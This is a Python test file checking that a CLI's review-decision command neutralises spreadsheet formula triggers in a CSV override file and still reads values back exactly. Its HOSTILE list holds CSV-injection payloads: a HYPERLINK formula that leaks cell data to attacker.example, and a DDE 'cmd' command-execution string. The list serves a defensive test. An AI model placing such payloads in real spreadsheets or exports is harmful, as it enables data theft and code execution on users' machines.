"""`ucv review-decide` writes no formula triggers into the override file (issue 15, finding 6):
every cell that a spreadsheet would evaluate is neutralised with a leading quote, and reading the
file back gives exactly what the steward wrote."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from pipelines.fileio import FORMULA_TRIGGERS, formula_safe, formula_unsafe
from pipelines.identify.commands import app
from pipelines.identify.overrides import load_overrides

HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\uff1dcmd", "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_review_decide_writes_formula_triggers_inert_and_reads_them_back(text, tmp_path):
    overrides = tmp_path / "overrides.csv"
    result = CliRunner().invoke(app, [
        "review-decide", "--pair", "sales:L1", "claims:C1", "--decision", "cannot_link",
        "--by", text, "--reason", text, "--at", "2026-11-22T10:00:00Z",
        "--overrides", str(overrides)])
    assert result.exit_code == 0, result.output
    with overrides.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c[:1] and c[0] in FORMULA_TRIGGERS], cells
    (decision,) = load_overrides(overrides)
    assert (decision.decided_by, decision.reason) == (text.strip(), text.strip())


@given(st.text(min_size=1))
def test_neutralising_is_reversible_and_never_leaves_a_trigger_first(value):
    cell = formula_safe(value)
    assert formula_unsafe(cell) == value
    assert not (cell[:1] and cell[0] in FORMULA_TRIGGERS)
